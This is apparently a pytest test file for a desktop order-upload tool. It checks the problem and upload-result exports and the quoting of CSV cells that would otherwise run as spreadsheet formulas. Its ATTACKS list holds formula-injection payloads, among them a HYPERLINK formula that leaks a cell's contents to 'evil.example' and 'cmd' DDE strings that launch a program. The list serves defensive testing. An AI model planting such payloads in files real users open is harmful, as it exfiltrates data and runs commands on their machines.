"""The reports we export: the problem rows and the upload results, and CSV formula injection."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from northbeam_desktop.core.files.delimited import neutralised
from northbeam_desktop.core.files.reports import (
    EXCEL_ROW_COLUMN,
    PROBLEMS_COLUMN,
    export_problems,
    export_upload_results,
)
from northbeam_desktop.core.northbeam.uploader import OrderOutcome, UploadReport
from northbeam_desktop.core.orders.document import LoadOptions, OrderDocument, load_document
from northbeam_desktop.core.orders.readers import read_file
from tests.core import orderfiles

NOW = dt.datetime(2026, 11, 26, tzinfo=dt.UTC)


def opts(**kwargs: Any) -> LoadOptions:
    kwargs.setdefault("timezone", "America/New_York")
    kwargs.setdefault("now", NOW)
    return LoadOptions(**kwargs)


def leftovers(folder: Path, *keep: Path) -> list[str]:
    """Files in `folder` other than `keep`: temporary files a save must never leave behind."""
    kept = {p.name for p in keep}
    return sorted(p.name for p in folder.iterdir() if p.name not in kept)


def issue_keys(doc: OrderDocument) -> set[tuple[Any, ...]]:
    return {(i.order_id, i.code, i.column, i.severity.value) for r in doc.orders for i in r.issues}


# ---- the problems export -------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_problems_reopens_with_the_same_issues(tmp_path: Path, suffix: str) -> None:
    doc = load_document(orderfiles.template_defects(tmp_path), opts())
    # Row 5 (an error in its total) also gets a warning: a purchase in the future.
    doc.set_cell(3, doc.sheet.headers.index("time_of_purchase"), "2030-01-01 10:00")
    expected = {key for key in issue_keys(doc)}
    assert expected
    target = tmp_path / f"problems{suffix}"

    written = export_problems(doc, target)

    problem_orders = [r for r in doc.orders if r.issues]
    assert written == sum(len(r.row_indices) for r in problem_orders)
    again = load_document(target, opts())
    assert again.sheet.headers[:2] == [EXCEL_ROW_COLUMN, PROBLEMS_COLUMN]
    assert issue_keys(again) == expected
    by_origin = {str(row[0]): row for row in again.sheet.rows}
    assert set(by_origin) == {
        str(doc.sheet.row_numbers[i]) for r in problem_orders for i in r.row_indices
    }
    # Row 5 has an error (purchase_total "abc") and a warning (in the future): error first.
    problems = str(by_origin["5"][1])
    assert problems.index("abc") < problems.index("future")
    assert "USA" not in problems  # "us" → "USA" is a note for the file, not a problem
    assert ".; " not in problems and ". " in problems  # whole sentences, one after another
    # Order 1002 has the tax problem; its text is on its own row only.
    assert "Tax" in str(by_origin["4"][1]) or "tax" in str(by_origin["4"][1])
    assert leftovers(tmp_path, Path(doc.sheet.path), target) == []


def test_export_problems_of_an_exported_file_keeps_the_original_rows(tmp_path: Path) -> None:
    doc = load_document(orderfiles.template_defects(tmp_path), opts())
    first = tmp_path / "problems.xlsx"
    export_problems(doc, first)
    again = load_document(first, opts())
    second = tmp_path / "problems-again.xlsx"

    export_problems(again, second)

    third = read_file(second)
    assert third.headers.count(PROBLEMS_COLUMN) == 1
    assert third.headers.count(EXCEL_ROW_COLUMN) == 1
    assert sorted(int(r[0]) for r in third.rows) == sorted(int(r[0]) for r in again.sheet.rows)


def test_export_problems_lists_file_problems_on_a_second_sheet(tmp_path: Path) -> None:
    header = [h for h in orderfiles.TEMPLATE_HEADER if h != "products_price"]
    rows = [
        [v for h, v in zip(orderfiles.TEMPLATE_HEADER, r, strict=True) if h != "products_price"]
        for r in orderfiles.TEMPLATE_CLEAN
    ]
    path = orderfiles.write_csv(tmp_path / "no_price.csv", header, rows)
    doc = load_document(path, opts())
    assert doc.blocked
    target = tmp_path / "problems.xlsx"

    export_problems(doc, target)

    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Problems", "File problems"]
    assert "price" in book["File problems"]["A2"].value.lower()


# ---- upload results ------------------------------------------------------------------------


def make_report() -> UploadReport:
    outcomes = [
        OrderOutcome("1001", "accepted", rows=[2, 3]),
        OrderOutcome(
            "1002",
            "failed",
            "products[0].price: must be a number",
            [("products[0].price", "must be a number")],
            rows=[4],
        ),
        OrderOutcome("1003", "not_sent", "Not sent: the upload was cancelled.", rows=[5]),
    ]
    return UploadReport(
        endpoint="http://127.0.0.1:1/v2", outcomes=outcomes, accepted=1, failed=1, not_sent=1
    )


def test_export_upload_results_csv(tmp_path: Path) -> None:
    doc = load_document(orderfiles.template_clean(tmp_path), opts())
    target = tmp_path / "results.csv"

    assert export_upload_results(make_report(), doc, target) == 3

    data = target.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["order_id", "status", "rows", "message", "cells"]
    assert rows[1] == ["1001", "accepted", "2, 3", "", ""]
    assert rows[2][:3] == ["1002", "failed", "4"]
    assert rows[2][4] == "row 4, products_price"
    assert rows[3][1] == "not_sent"


def test_export_upload_results_xlsx_with_skipped_orders(tmp_path: Path) -> None:
    doc = load_document(orderfiles.template_defects(tmp_path), opts())
    skipped = [r for r in doc.orders if r.has_errors]
    target = tmp_path / "results.xlsx"

    count = export_upload_results(make_report(), doc, target, skipped=skipped)

    sheet = read_file(target)
    assert count == 3 + len(skipped) == len(sheet.rows)
    assert sheet.headers == ["order_id", "status", "rows", "message", "cells"]
    statuses = [r[1] for r in sheet.rows]
    assert statuses.count("skipped") == len(skipped)
    assert all(r[3].startswith("Not sent because of a problem") for r in sheet.rows[3:])


# ---- CSV formula injection (OWASP) -----------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your refund")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_as_a_formula_gets_a_quote(attack: str) -> None:
    assert neutralised(attack) == "'" + attack


@pytest.mark.parametrize("number", ["-12.50", "+3", "-1,234.50", "1e5", "-0.5", "12"])
def test_plain_numbers_stay_as_they_are(number: str) -> None:
    assert neutralised(number) == number


@pytest.mark.parametrize("text", ["Cotton T-shirt", "jane@example.com", "", "'=1+1", "a=b"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert neutralised(text) == text


def test_the_problems_csv_cannot_run_formulas(tmp_path: Path) -> None:
    rows = [list(r) for r in orderfiles.TEMPLATE_CLEAN]
    name = orderfiles.TEMPLATE_HEADER.index("products_name")
    total = orderfiles.TEMPLATE_HEADER.index("purchase_total")
    discount = orderfiles.TEMPLATE_HEADER.index("discount_amount")
    rows[0][name], rows[1][name] = ATTACKS[0], ATTACKS[1]
    rows[0][total] = rows[1][total] = "+1+1"  # not a number: a problem on this order
    rows[0][discount] = rows[1][discount] = "-12.50"
    path = orderfiles.write_csv(tmp_path / "hostile.csv", orderfiles.TEMPLATE_HEADER, rows)
    doc = load_document(path, opts())
    target = tmp_path / "problems.csv"

    assert export_problems(doc, target) == 2

    table = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"))))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and c != "-12.50"]
    header = table[0]
    first, second = table[1], table[2]
    assert first[header.index("products_name")] == "'" + ATTACKS[0]
    assert second[header.index("products_name")] == "'" + ATTACKS[1]
    assert first[header.index("purchase_total")] == "'+1+1"
    assert first[header.index("discount_amount")] == "-12.50"  # a refund stays a number


def test_the_upload_results_csv_cannot_run_formulas(tmp_path: Path) -> None:
    report = UploadReport(
        endpoint="http://127.0.0.1:1/v2",
        outcomes=[
            OrderOutcome("@SUM(1+1)", "failed", ATTACKS[0], rows=[2]),
            OrderOutcome("1002", "failed", "+1+1", rows=[3]),
        ],
        failed=2,
    )
    target = tmp_path / "results.csv"

    export_upload_results(report, None, target)

    table = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"))))
    assert table[1][0] == "'@SUM(1+1)"
    assert table[1][3] == "'" + ATTACKS[0]
    assert table[2][3] == "'+1+1"
